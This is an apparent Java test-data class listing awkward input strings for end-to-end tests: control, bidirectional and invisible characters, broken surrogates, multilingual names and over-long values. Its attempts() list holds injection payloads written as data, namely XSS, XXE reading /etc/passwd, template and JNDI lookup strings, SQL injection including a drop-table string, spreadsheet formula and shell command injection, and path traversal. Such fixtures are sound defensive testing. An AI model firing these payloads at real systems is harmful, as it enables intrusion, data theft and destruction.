package org.amparo.e2e.typed;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What people, their keyboards and their enemies type. */
public final class AwkwardStrings {

    private AwkwardStrings() { }

    public static List<String> all() {
        var all = new ArrayList<String>();
        inTheMiddle(IntStream.rangeClosed(0, 0x1f), all);
        inTheMiddle(IntStream.rangeClosed(0x7f, 0x9f), all);
        inTheMiddle(IntStream.of(0x200e, 0x200f, 0x61c, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069), all);
        inTheMiddle(IntStream.of(0xa0, 0xad, 0x34f, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0x202f, 0x2060, 0x2063, 0x3000, 0x3164, 0xfeff, 0xfff9, 0xfffc, 0xfffd), all);
        inTheMiddle(IntStream.of(0xe000, 0xf8ff, 0xfdd0, 0xfdef, 0xfffe, 0xffff, 0x1fffe, 0x1ffff, 0xe0001, 0xe0020, 0xf0000, 0x10fffd, 0x10fffe, 0x10ffff, 0x378, 0x50000), all);
        all.addAll(List.of("\ud800", "\udc00", "a\ud83db", "a\ude00b", "\ude00\ud83d", "ends with half \ud83d", "\udfffbegins with half"));
        all.addAll(List.of("", " ", "\t", "\n", "\r\n", "   \t \n", "\u3000", "\u2003\u2003", " begins with a space", "ends with a space ", "\u3000both\u3000", "\nline first", "line last\n", "a\nb", "a\r\nb", "a\rb", "a\tb", "many      spaces", "\n\n\n\na"));
        all.addAll(ofTheWorld());
        all.addAll(attempts());
        all.addAll(veryLong());
        return all;
    }

    private static void inTheMiddle(IntStream codes, List<String> into) { codes.forEach(c -> into.add("a" + Character.toString(c) + "b")); }

    private static List<String> ofTheWorld() {
        return List.of("أمل عبد الله", "شيرين‏ (Shirin)", "שלום עולם", "abc أمل def שרה 123", "\u202eevil\u202c", "Ω≈ç√∫˜µ≤≥÷", "é", "e\u0301", "n\u0303o\u0308", "Z\u0335\u0321\u0322a\u0337\u0337l\u0334\u0321g\u0336o\u0338",
                "ก็็็็็็็็็็", "नमस्ते दुनिया", "தமிழ்", "한국어 \u1112\u1161\u11ab", "中文漢字𠮷野家", "日本語ｶﾀｶﾅ", "Żółć gęślą jaźń", "İstanbul ıI iİ", "Straße ẞ", "ﬁ ﬂ ﷺ", "Ǆ ǅ ǆ", "ᏣᎳᎩ", "𐤀𐤁𐤂", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "１２３４",
                "٠١٢٣٤٥٦٧٨٩", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇵🇪🇪🇸", "👋🏽", "1️⃣", "❤️", "☺︎", "🫠🫥", "\ud83d\ude00\u200d", "\u0301begins with a mark", "a\u0488\u0489", "\u0e4e\u0e4e", "O'Neill", "D’Angelo", "Jean-Luc", "María José de la O",
                "Nguyễn Văn Ẩn", "Þórr Æsir", "Ḥāfiẓ", "ʻOkina", "X Æ A-12", "Null", "None", "undefined", "true", "NaN", "0", "-0", "1e309", "007", "1/0", "½", "10€", "100%", "№ 5", "…", "—", "•", "@", "#", "&", "~", "¿Qué? ¡Sí!", "«» „“ ‚‘ ‹›");
    }

    private static List<String> attempts() {
        return List.of("<script>alert(1)</script>", "<b>bold</b>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</textarea><script>", "\"><script>", "' onmouseover='x", "javascript:alert(1)", "<!-- -->", "]]>", "<![CDATA[x]]>",
                "&lt;", "&amp;amp;", "&#0;", "&#x27;", "&nbsp;", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<a href='//evil.example'>x</a>", "</p></div></main>",
                "#{1+1}", "${7*7}", "#{caller.user()}", "#{facesContext.externalContext.redirect('//x')}", "%{7*7}", "{{7*7}}", "{0}", "{}", "{0,number}", "''{0}''", "<%= 1 %>", "[[${7*7}]]", "@{x}", "\\u0000", "\\x00", "\\n", "\\", "\\\\", "\\'",
                "%s%s%s%n", "%1$s", "%d", "%n", "%", "%%", "%00", "%0d%0aSet-Cookie: a=b", "%c0%af", "%2e%2e%2f", "$1", "$$", "\\$1", "${jndi:ldap://x/y}", "${env:HOME}",
                "'", "''", "\"", "\"\"", "`", "';drop table amparo.survivor;--", "' or '1'='1", "1; select pg_sleep(9)", "/* */", "--", ":name", "?1", "::uuid", "E'\\x00'", "$tag$", "\\.", "like 'a%_'", "null", "NULL", "(select 1)",
                "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "a,b;c|d", "\"a\",\"b\"", "=HYPERLINK(\"//x\")", "|", ";", ",",
                "../../../etc/passwd", "..\\..\\x", "/dev/null", "C:\\x", "CON", "file:///etc/passwd", "a/b/c", "name.pdf\u0000.exe", "-rf", "--help", "$(id)", "`id`", "; id", "| id", "&& id",
                "2026-01-01 00:00:00,000 ERROR [x] made up", "a\r\n2026-01-01 ERROR made up", "Subject: x\r\nBcc: a@b.example", "a@b.example, c@d.example", "{\"a\":1}", "[1,2]", "\"", "{'$gt':''}", "*)(uid=*", "*", "x' and name()='", "__proto__", "constructor", "\u001b[31mred", "\u0007bell",
                "\u001f", "a\u001fb", "a\u0000b\u0000c", "jakarta.faces.ViewState", "true' --", "0x41", "<", ">", "<<", ">>", "<a", "&", "&x", "&x;");
    }

    private static List<String> veryLong() {
        return Stream.of("a", "أ", "😀", "\u0301", "<b>", " x", "\n", "'").flatMap(s -> Stream.of(199, 200, 201, 2_000, 10_000, 10_001).map(s::repeat)).toList();
    }
}
